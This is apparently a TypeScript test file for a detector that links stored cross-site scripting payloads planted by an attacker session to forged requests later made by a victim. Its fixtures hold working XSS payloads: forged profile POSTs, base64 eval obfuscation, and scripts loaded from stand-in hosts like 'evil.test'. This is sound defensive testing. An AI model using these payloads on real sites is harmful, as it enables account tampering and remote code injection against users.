import { describe, expect, it } from 'vitest';

import { readParameter } from '../web/parameter-features.js';
import { KeyedDigest } from '../values/keyed-digest.js';
import { ScriptTexts } from './script-texts.js';

const digest = new KeyedDigest('key');
const value = (text: string) => readParameter({ where: 'body', name: 'body', value: text }, '', digest, 'balanced');

function planted(text: string, changes = true): ScriptTexts {
  const texts = new ScriptTexts();
  const request = { event: 'plant', timeUs: 5, session: 'attacker', pages: ['/product/{digits}', undefined], changes };
  texts.remember([value(text)], request);
  return texts;
}

const save = { session: 'victim', path: '/profile', routeValues: [], fields: ['fullname', 'city'] };

describe('the texts of scripts', () => {
  const POST = "<script>fetch('/profile',{method:'POST',body:new URLSearchParams('fullname=x&city=y')})</script>";

  it('name a request by its path and fields, in any session', () => {
    expect(planted(POST).naming(save)).toEqual({
      event: 'plant',
      timeUs: 5,
      parameter: 'body',
      fields: true,
      pages: ['/product/{digits}'],
    });
    expect(planted(POST).naming({ ...save, fields: ['fullname', 'email'] })?.fields).toBe(false);
    expect(planted(POST).naming({ ...save, path: '/checkout' })).toBeUndefined();
  });

  it('name the action that a parameter chooses', () => {
    const texts = planted('<img src=x onerror="new Image().src=\'/index.php?page=cart&item=3\'">');
    const request = { session: 'v', path: '/index.php', fields: ['page', 'item'] };
    expect(texts.naming({ ...request, routeValues: ['cart'] })?.fields).toBe(true);
    expect(texts.naming({ ...request, routeValues: ['profile'] })).toBeUndefined();
  });

  it('name an operation of GraphQL, with its variables as objects within objects', () => {
    const body =
      "JSON.stringify({query:'mutation Rename($in:Names!){rename(in:$in)}',variables:{in:{first:'a',last:'b'}}})";
    const texts = planted(`<script>fetch('/graphql',{method:'POST',body:${body}})</script>`);
    const request = { session: 'v', path: '/graphql', fields: ['query', 'variables.in.first', 'variables.in.last'] };
    expect(texts.naming({ ...request, routeValues: ['Rename'] })?.fields).toBe(true);
    expect(
      texts.naming({ ...request, fields: [...request.fields, 'variables.in.title'], routeValues: ['Rename'] })?.fields,
    ).toBe(false);
    expect(texts.naming({ ...request, routeValues: ['Name'] })).toBeUndefined();
    const unnamed = planted(
      "<img src=x onerror=\"fetch('/graphql',{method:'POST',body:JSON.stringify({query:'{invoices(all:true){sum}}'})})\">",
    );
    expect(unnamed.naming({ ...request, fields: ['query'], routeValues: ['invoices'] })?.fields).toBe(true);
  });

  it('are read through the usual codes', () => {
    const coded = Buffer.from("fetch('/profile?fullname=a&city=b')").toString('base64');
    expect(planted(`<svg onload="eval(atob('${coded}'))">`).naming(save)?.fields).toBe(true);
  });

  it('of a link count in the session that followed it alone', () => {
    const texts = planted(POST, false);
    expect(texts.naming(save)).toBeUndefined();
    expect(texts.naming({ ...save, session: 'attacker' })?.fields).toBe(true);
  });

  it('that run nothing name nothing', () => {
    expect(planted("how does fetch('/profile') send fullname and city?").naming(save)).toBeUndefined();
  });

  it('that do not tell what they ask for are known by the pages where they may stand', () => {
    const from = '/product/{digits}';
    for (const text of [
      '<script src="//cdn.evil.test/a.js"></script>',
      '<img src=x onerror="import(`//evil.test/a.js`)">',
      "<script>var s=document.createElement('script');s.src='//evil.test/a';document.body.append(s)</script>",
      "<script>self['fe'+'tch'](['','pro','file'].join(String.fromCharCode(47)))</script>",
    ]) {
      expect(planted(text).unreadOn(from, 'victim')).toEqual({
        event: 'plant',
        timeUs: 5,
        parameter: 'body',
        pages: [from],
      });
      expect(planted(text).unreadOn('/other', 'victim')).toBeUndefined();
      expect(planted(text).unreadOn(undefined, 'victim')).toBeDefined();
      expect(planted(text, false).unreadOn(from, 'victim')).toBeUndefined();
      expect(planted(text, false).unreadOn(from, 'attacker')).toBeDefined();
    }
    for (const text of [POST, '<script>alert(1)</script>', 'how does <b>import("//evil.test")</b> work?'])
      expect(planted(text).unreadOn(from, 'victim')).toBeUndefined();
  });

  it('are bounded: the oldest go first', () => {
    const texts = planted(POST);
    for (let n = 0; n < 256; n++) {
      const request = { event: `e${n}`, timeUs: n, session: 's', pages: [], changes: true };
      texts.remember([value(`<script>fetch('/other/${n}')</script>`)], request);
    }
    expect(texts.naming(save)).toBeUndefined();
  });
});
